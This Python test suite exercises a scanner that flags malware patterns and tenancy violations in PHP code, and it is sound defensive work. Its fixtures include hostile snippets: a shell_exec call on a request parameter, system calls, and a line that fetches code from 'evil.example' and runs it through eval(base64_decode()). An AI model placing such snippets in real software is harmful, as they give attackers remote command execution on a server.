"""Tests for the malware and tenancy signature scanners."""

from __future__ import annotations

import time

from appguard.infra.analyzers import MalwareScanner, TenancyScanner
from appguard.infra.analyzers.base import location_from_offset, sanitize_snippet
from appguard.rules import PatternRule, PatternTable


def _scan(scanner, make_target, files, collector):
    scanner.analyze(make_target(files), collector)
    return collector.snapshot()


def test_one_finding_per_rule_per_file_at_first_match(make_target, collector):
    code = "<?php\n$a = 1;\n  eval($a);\neval($b);\n"
    findings, warnings, _ = _scan(MalwareScanner(), make_target, {"src/x.php": code}, collector)

    assert warnings == []
    assert len(findings) == 1
    finding = findings[0]
    assert finding.type == "malware_pattern"
    assert finding.severity.value == "high"
    assert finding.rule == "dynamic-eval"
    assert (finding.line, finding.column) == (3, 3)
    assert finding.snippet == "eval("
    assert finding.file == "src/x.php"


def test_shell_exec_is_not_reported_as_exec(make_target, collector):
    findings, _, _ = _scan(
        MalwareScanner(), make_target, {"run.php": "<?php shell_exec($_GET['c']);"}, collector
    )
    assert [f.rule for f in findings] == ["shell-exec"]


def test_same_rule_in_two_files(make_target, collector):
    findings, _, _ = _scan(
        MalwareScanner(),
        make_target,
        {"a.php": "<?php system('ls');", "b.php": "<?php system('id');"},
        collector,
    )
    assert sorted(f.file for f in findings) == ["a.php", "b.php"]


def test_remote_include_and_obfuscation(make_target, collector):
    code = "<?php $x = file_get_contents('https://evil.example/p.txt'); eval(base64_decode($x));"
    findings, _, _ = _scan(MalwareScanner(), make_target, {"p.php": code}, collector)
    assert {f.rule for f in findings} == {"remote-include", "dynamic-eval", "base64-decode"}


def test_binary_and_oversize_files_are_skipped(make_target, collector):
    files = {
        "blob.dat": b"\x00\x01eval(\x00",
        "big.php": "<?php eval($x);" + " " * 2048,
        "small.php": "<?php echo 'ok';",
    }
    findings, warnings, _ = _scan(MalwareScanner(max_file_bytes=1024), make_target, files, collector)
    assert findings == []
    assert warnings == []


def test_clean_code_has_no_findings(make_target, collector):
    code = "<?php\nfunction evaluate($x) { return $x * 2; }\necho evaluate(2);\n"
    findings, _, _ = _scan(MalwareScanner(), make_target, {"ok.php": code}, collector)
    assert findings == []


class SlowScanner(MalwareScanner):
    def _scan_file(self, source):
        if source.relpath == "slow.php":
            time.sleep(1.0)
        return super()._scan_file(source)


def test_file_timeout_becomes_warning(make_target, collector):
    files = {"slow.php": "<?php eval($x);", "fast.php": "<?php system('x');"}
    findings, warnings, _ = _scan(SlowScanner(timeout_s=0.2, max_workers=2), make_target, files, collector)

    assert [f.file for f in findings] == ["fast.php"]
    assert len(warnings) == 1
    assert warnings[0].code == "scan_timeout"
    assert warnings[0].stage == "malware"
    assert warnings[0].file == "slow.php"


BACKTRACKING = PatternTable(
    version="test",
    type="malware_pattern",
    rules=[PatternRule(id="nested-quantifier", pattern=r"(a+)+b", description="Nested quantifier")],
)


def test_runaway_regex_is_stopped_at_the_deadline(make_target, collector):
    files = {"runaway.php": "a" * 40, "fast.php": "aab"}
    scanner = MalwareScanner(table=BACKTRACKING, timeout_s=0.5, max_workers=2)

    started = time.monotonic()
    findings, warnings, _ = _scan(scanner, make_target, files, collector)

    assert time.monotonic() - started < 15.0
    assert [f.file for f in findings] == ["fast.php"]
    assert [(w.code, w.file) for w in warnings] == [("scan_timeout", "runaway.php")]


def test_long_session_line_scans_within_the_deadline(make_target, collector):
    code = "<?php session()->put" + "without" * 12000
    findings, warnings, _ = _scan(TenancyScanner(timeout_s=1.0), make_target, {"s.php": code}, collector)
    assert warnings == []
    assert findings == []


def test_session_put_without_tenant_is_flagged(make_target, collector):
    code = "<?php\nsession()->put('cart', $items); // stored without tenant prefix\n"
    findings, _, _ = _scan(TenancyScanner(), make_target, {"s.php": code}, collector)
    assert [(f.rule, f.line) for f in findings] == [("session-without-tenant", 2)]


def test_tenancy_violation_carries_remediation(make_target, collector):
    code = "<?php\n$rows = DB::connection('central')->table('users')->get();\n"
    findings, _, _ = _scan(TenancyScanner(), make_target, {"src/Repo.php": code}, collector)

    assert len(findings) == 1
    finding = findings[0]
    assert finding.type == "tenancy_violation"
    assert finding.rule == "central-connection"
    assert finding.line == 2
    assert "tenancy()->central()" in finding.remediation


def test_tenant_aware_storage_is_not_flagged(make_target, collector):
    code = "<?php Storage::disk('tenant')->put('a', $b); $p = storage_path('app/tenant/x');"
    findings, _, _ = _scan(TenancyScanner(), make_target, {"s.php": code}, collector)
    assert findings == []


def test_non_tenant_disk_is_flagged(make_target, collector):
    findings, _, _ = _scan(
        TenancyScanner(), make_target, {"s.php": "<?php Storage::disk('s3')->get('x');"}, collector
    )
    assert [f.rule for f in findings] == ["non-tenant-disk"]


def test_location_helpers():
    assert location_from_offset("ab\ncd", 4) == (2, 2)
    assert location_from_offset("abc", 0) == (1, 1)
    assert sanitize_snippet("  x\x00y  ") == "xy"
    assert sanitize_snippet("a" * 300, max_length=10) == "aaaaaaa..."
